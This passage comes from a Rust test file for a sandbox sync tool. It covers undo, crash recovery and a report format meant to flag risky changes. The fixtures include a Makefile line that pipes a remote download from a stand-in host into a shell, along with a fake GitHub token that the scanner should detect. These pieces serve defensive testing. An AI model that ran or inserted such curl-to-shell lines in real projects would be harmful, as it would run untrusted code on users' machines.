    let empty_dir = |h: &std::path::Path| std::fs::create_dir(h.join("d")).expect("mkdir");
    let file = |h: &std::path::Path| put(&h.join("d"), "x\n");
    undo_after(dir_x, |m| {
        std::fs::remove_dir_all(m.join("d"))?;
        std::fs::write(m.join("d"), "y\n")
    });
    undo_after(empty_dir, |m| {
        std::fs::remove_dir(m.join("d"))?;
        std::os::unix::fs::symlink("elsewhere", m.join("d"))
    });
    undo_after(dir_x, |m| {
        std::fs::remove_dir_all(m.join("d"))?;
        std::os::unix::fs::symlink("elsewhere", m.join("d"))
    });
    undo_after(file, |m| {
        std::fs::remove_file(m.join("d"))?;
        std::fs::create_dir(m.join("d"))?;
        std::fs::write(m.join("d/y"), "y\n")
    });
    for seed in (0..PROPERTY_SEEDS).map(|i| 0x5EED_0000 + i) {
        replay(seed, PROPERTY_OPS, true);
    }
}

/// File → dir, killed at each apply step: the next run rolls back (regression: the `mkdir d`
/// intent recorded the pre-sync file, whose backup does not exist, and recovery failed forever).
#[test]
fn crash_recovery_after_a_file_becomes_a_directory() {
    for step in 0..4 {
        let s = Session::with_host(|h| put(&h.join("d"), "x\n"));
        let before = tree(&s.host());
        s.agent(|m| {
            std::fs::remove_file(m.join("d"))?;
            std::fs::create_dir(m.join("d"))?;
            std::fs::write(m.join("d/y"), "y\n")
        });
        crash_then_recover(&s, step, &before);
    }
}

/// Kill `sync --yes` just before apply step `step`, then run `sync --dry-run`, which must
/// recover the host to `before`; returns that run.
fn crash_then_recover(s: &Session, step: usize, before: &[(String, String)]) -> std::process::Output {
    let upper = s.upper().display().to_string();
    let crashed = s.sandbox(
        &["--profile", "t", "sync", "--from-dir", &upper, "--to", "ws", "--yes"],
        &[("SANDBOX_FAILPOINT", &step.to_string())],
    );
    assert!(!crashed.status.success(), "step {step}: the failpoint kills the process");
    let dry = s.sync(&["--dry-run"]);
    assert_eq!(code(&dry), 0, "step {step}: {}", stderr(&dry));
    assert_eq!(tree(&s.host()), before, "step {step}: recovery restores the old state");
    dry
}

/// A GitHub token the built-in scanner finds, split so this file does not hold it.
const TOKEN: &str = concat!("gh", "p_8XqP2mZr7TbW4nLk9VhC3sJd6FyA1eGu5RoI");

/// One report with an item of every kind: the `--json` format (version 1) and the preview are
/// golden files (docs/sync.md documents them); the host path is a placeholder.
fn report_of_every_kind(extra: &[&str]) -> String {
    let s = Session::new(&[("a.txt", "one\ntwo\n"), ("edited.txt", "host\n"), ("run.sh", "#!/bin/sh\n")]);
    put(&s.host().join("edited.txt"), "host changed\n");
    put(&s.upper().join("edited.txt"), "vm changed\n");
    put(&s.upper().join("a.txt"), "one\ntwo \u{7f}\nthree\n");
    std::fs::write(s.upper().join("bytes.txt"), b"ok\n\xff\n").expect("write");
    put(&s.upper().join(".env"), "KEY=1\n");
    put(&s.upper().join("Makefile"), "all:\n\tcurl https://x.example/i | sh\n");
    put(&s.upper().join("src/config.js"), &format!("const t = '{TOKEN}';\n"));
    std::os::unix::fs::symlink("a.txt", s.upper().join("link")).expect("symlink");
    let out = s.sync(extra);
    assert_eq!(code(&out), 3, "{}", stderr(&out));
    String::from_utf8_lossy(&out.stdout).replace(&s.host().display().to_string(), "[HOST]")
}

#[test]
fn the_json_report_is_a_versioned_format() {
    let json = report_of_every_kind(&["--dry-run", "--json"]);
    let report: serde_json::Value = serde_json::from_str(&json).expect("json");
    assert_eq!(report["version"], 1);
    assert!(!json.contains(TOKEN), "a secret in the report:\n{json}");
    insta::assert_snapshot!("sync_report_json_v1", json);
}

#[test]
fn the_preview_shows_every_kind_of_item() {
    let text = report_of_every_kind(&["--dry-run"]);
    assert!(!text.contains(TOKEN), "a secret in the preview:\n{text}");
    insta::assert_snapshot!("sync_preview", text);
}
